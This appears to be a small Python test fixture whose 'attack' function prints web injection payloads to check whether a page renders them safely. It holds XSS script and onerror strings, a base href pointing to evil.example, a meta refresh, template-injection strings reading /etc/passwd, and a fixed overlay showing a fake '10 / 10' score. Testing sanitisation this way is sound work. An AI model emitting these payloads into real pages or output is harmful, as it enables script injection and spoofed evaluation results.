# attack: Prints markup, scripts and styles that would run or lie over the page.
# verdicts: test_attack=failed


def attack(n):
    print("<script>document.title='pwned'</script><img src=x onerror=alert(1)><svg onload=alert(1)>")
    print("</pre></code></details></main><h1 style='position:fixed;inset:0'>10 / 10</h1>")
    print(
        "<iframe srcdoc='<script>alert(1)</script>'></iframe><base href=//evil.example><meta http-equiv=refresh content=0>"
    )
    print("{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}<%= 7 %>")
    return "<img src=x onerror=alert(1)>"
